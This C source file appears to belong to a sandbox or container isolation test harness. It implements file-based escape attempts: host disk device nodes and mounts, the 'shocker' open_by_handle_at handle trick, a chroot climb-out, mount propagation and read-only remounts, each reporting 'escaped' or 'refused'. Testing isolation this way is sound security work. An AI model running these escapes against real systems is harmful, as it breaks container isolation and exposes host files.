/*
 * Ways out over files: the host's disk, its directory tree from below, its
 * mounts.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include "attempt.h"

/* A directory that the attempt may fill; the rootfs may be read-only. */
#define SCRATCH "/dev/shm/"

/* read FILE: what a mistake of the configuration lays bare. */
static int read_path(char **words)
{
    return escaped_with(open(words[0], O_RDONLY | O_CLOEXEC), words[0]);
}

/* read-elf FILE: the kernel's memory, as an ELF file. */
static int read_elf(char **words)
{
    char magic[4];
    int fd = open(words[0], O_RDONLY | O_CLOEXEC);
    ssize_t length = fd < 0 ? -1 : read(fd, magic, sizeof(magic));

    if (fd >= 0)
        close(fd);
    if (length == 0)
        errno = ENODATA; /* the null device of a mask */
    if (length != sizeof(magic) || memcmp(magic, "\177ELF", 4) != 0)
        return refused(words[0]);
    return escaped("ELF");
}

/* node MAJOR MINOR: makes a node of the host's disk, and reads it. */
static int node(char **words)
{
    static const char name[] = "/dev/disk-of-host";
    dev_t number = makedev(atoi(words[0]), atoi(words[1]));
    char path[32];

    /* A node that is there is that of "device". */
    if (mknod(name, S_IFBLK | 0600, number) < 0 && errno != EEXIST)
        return refused("mknod");
    snprintf(path, sizeof(path), "%s", name);
    return read_path((char *[]){path});
}

/* mount-disk MAJOR MINOR FILE: mounts the host's disk, and reads a file. */
static int mount_disk(char **words)
{
    dev_t number = makedev(atoi(words[0]), atoi(words[1]));

    if (mknod("/dev/disk-of-host", S_IFBLK | 0600, number) < 0)
        return refused("mknod");
    if (mkdir(SCRATCH "disk", 0700) < 0 ||
        mount("/dev/disk-of-host", SCRATCH "disk", "ext2", MS_RDONLY, NULL) < 0)
        return refused("mount");
    if (chdir(SCRATCH "disk") < 0)
        return refused("chdir");
    return read_path(words + 2);
}

/* handle TYPE HEX: opens a file of the file system that the rootfs is on by
 * its handle, which can be guessed (open_by_handle_at(2); "shocker", 2014). */
static int handle(char **words)
{
    union {
        struct file_handle head;
        unsigned char bytes[sizeof(struct file_handle) + MAX_HANDLE_SZ];
    } file = {.head.handle_type = atoi(words[0])};
    unsigned int byte, length = 0;
    int root = open("/", O_RDONLY | O_DIRECTORY);

    while (length < MAX_HANDLE_SZ &&
           sscanf(words[1] + 2 * (size_t)length, "%2x", &byte) == 1)
        file.bytes[offsetof(struct file_handle, f_handle) + length++] =
            (unsigned char)byte;
    file.head.handle_bytes = length;
    return escaped_with(open_by_handle_at(root, &file.head, O_RDONLY),
                        "open_by_handle_at");
}

/* descriptor N FILE: a file below a directory that is open at N. */
static int descriptor(char **words)
{
    return escaped_with(openat(atoi(words[0]), words[1], O_RDONLY), "openat");
}

/* climb FILE: leaves a root that was changed by chroot(2) alone: with another
 * below it, the working directory is outside, and up leads out. */
static int climb(char **words)
{
    if ((mkdir(SCRATCH "below", 0700) < 0 && errno != EEXIST) ||
        chroot(SCRATCH "below") < 0)
        return refused("chroot");
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            return refused("chdir");
    if (chroot(".") < 0)
        return refused("chroot");
    return read_path(words);
}

/* propagate DIRECTORY: mounts where the host's mounts follow ours. The host
 * looks whether it sees it. */
static int propagate(char **words)
{
    if (mount("escaped", words[0], "tmpfs", 0, NULL) < 0)
        return refused("mount");
    return escaped("mounted");
}

/* remount PATH: makes writable what was mounted read-only, and writes. */
static int remount(char **words)
{
    int fd;

    if (mount(NULL, words[0], NULL, MS_REMOUNT | MS_BIND, NULL) < 0)
        return refused("mount");
    fd = open(words[1], O_WRONLY | O_CREAT, 0600);
    if (fd < 0 || write(fd, "escaped\n", 8) != 8)
        return refused(words[1]);
    close(fd);
    return escaped("written");
}

const struct attempt file_attempts[] = {
    {"read", 1, read_path},  {"read-elf", 1, read_elf},
    {"node", 2, node},       {"mount-disk", 3, mount_disk},
    {"handle", 2, handle},   {"descriptor", 2, descriptor},
    {"climb", 1, climb},     {"propagate", 1, propagate},
    {"remount", 2, remount}, {NULL, 0, NULL},
};
